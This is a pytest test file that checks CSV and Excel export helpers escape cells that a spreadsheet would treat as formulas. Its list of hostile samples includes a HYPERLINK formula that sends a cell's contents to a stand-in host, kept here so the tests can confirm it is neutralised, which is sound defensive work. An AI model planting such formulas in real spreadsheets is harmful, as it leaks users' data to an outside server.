"""Issue 10 item 9: every CSV or Excel export escapes cells that a spreadsheet would run as a
formula (formula injection)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from husly.core.spreadsheet import csv_bytes, safe_cell, xlsx_bytes

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"Klikk")', "+47 22 00 00 00", "-1+2", "@SUM(A1)"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_begins_like_a_formula_is_escaped(text: str) -> None:
    assert safe_cell(text) == "'" + text


def test_other_values_pass_unchanged() -> None:
    for value in ("Kari Hansen", "", -5, Decimal("-1.5"), 3.5, dt.date(2026, 1, 2), None, True):
        assert safe_cell(value) == value


def test_a_csv_export_holds_no_formula() -> None:
    content = csv_bytes([["navn", "tall"], *([text, -3] for text in HOSTILE)])
    assert content.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 with a byte order mark
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    assert all(row[1] == "-3" for row in rows[1:])


def test_an_excel_export_holds_no_formula() -> None:
    content = xlsx_bytes([["navn"], *([text] for text in HOSTILE), [-3]])
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type != "f" for cell in cells)
    assert [cell.value for cell in cells] == ["'" + text for text in HOSTILE] + [-3]
